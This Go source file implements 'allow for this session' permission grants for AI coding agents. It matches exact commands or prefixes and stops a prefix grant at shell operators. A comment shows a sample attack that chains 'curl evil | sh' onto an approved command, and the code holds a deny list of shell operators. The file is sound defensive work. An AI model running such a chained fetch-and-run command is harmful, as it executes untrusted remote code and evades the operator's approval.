package engine

import "strings"

// A Grant is one "allow for this session" answer: what it lets the
// session's agent do without asking again. A grant of a tool that runs a
// command (the engine's exec, Claude Code's Bash, Codex's commands, an ACP
// agent's execute kind) covers only the command the approval showed, or
// the commands starting with the prefix the operator chose, as Claude
// Code's own "don't ask again" does; a grant of any other tool covers the
// tool.
type Grant struct {
	Tool    string
	Command string // the command allowed, or its prefix; "" for the whole tool
	Prefix  bool   // Command is a prefix (Claude Code's "Bash(go test:*)")
}

// prefixMark ends the key of a prefix grant, as Claude Code's permission
// rules write one ("Bash(go test:*)"): "Bash:go test:*".
const prefixMark = ":*"

// Key names the grant in the grants list and in a revoke: "write_file",
// "Bash:go test ./..." (that command) or "Bash:go test:*" (the commands
// starting with it).
func (g Grant) Key() string {
	switch {
	case g.Command == "":
		return g.Tool
	case g.Prefix:
		return g.Tool + ":" + g.Command + prefixMark
	}
	return g.Tool + ":" + g.Command
}

// ParseGrant reads a grant's key back (Key's inverse).
func ParseGrant(key string) Grant {
	tool, cmd, ok := strings.Cut(key, ":")
	if !ok {
		return Grant{Tool: key}
	}
	if c, ok := strings.CutSuffix(cmd, prefixMark); ok && c != "" {
		return Grant{Tool: tool, Command: c, Prefix: true}
	}
	return Grant{Tool: tool, Command: cmd}
}

// Scope says in words what the grant covers, for the grants lists.
func (g Grant) Scope() string {
	switch {
	case g.Command == "":
		return "every " + g.Tool + " call"
	case g.Prefix:
		return "commands starting with `" + g.Command + "`"
	}
	return "the command `" + g.Command + "`"
}

// Covers reports whether the grant allows a call of tool with command.
// A prefix covers the command itself and the commands that go on from it
// after a space with no shell operator in what follows, so "go test"
// allows "go test ./core" but neither "go testify" nor
// "go test ./... && curl evil | sh".
func (g Grant) Covers(tool, command string) bool {
	if g.Tool != tool {
		return false
	}
	switch {
	case g.Command == "":
		return command == ""
	case !g.Prefix:
		return command == g.Command
	case command == g.Command:
		return true
	}
	rest, ok := strings.CutPrefix(command, g.Command)
	if !ok || rest[0] != ' ' {
		return false
	}
	return !strings.ContainsAny(rest, shellOperators)
}

// shellOperators are the characters with which what follows a prefix could
// run another command, redirect, or substitute one: a prefix grant does
// not stretch over them.
const shellOperators = ";&|<>`$()\n\r\\"

// SuggestPrefix proposes the prefix for "commands starting with …": the
// command's leading words up to its first argument (one with a path, a
// dot, an "=" or a leading "-"), at most three, so "go test ./..." gives
// "go test" and "npm run build" "npm run build". The operator edits it.
func SuggestPrefix(command string) string {
	var words []string
	for _, w := range strings.Fields(command) {
		if len(words) == 3 || strings.ContainsAny(w, "/.=\\"+shellOperators) || strings.HasPrefix(w, "-") {
			break
		}
		words = append(words, w)
	}
	if len(words) == 0 {
		if f := strings.Fields(command); len(f) > 0 {
			return f[0]
		}
	}
	return strings.Join(words, " ")
}
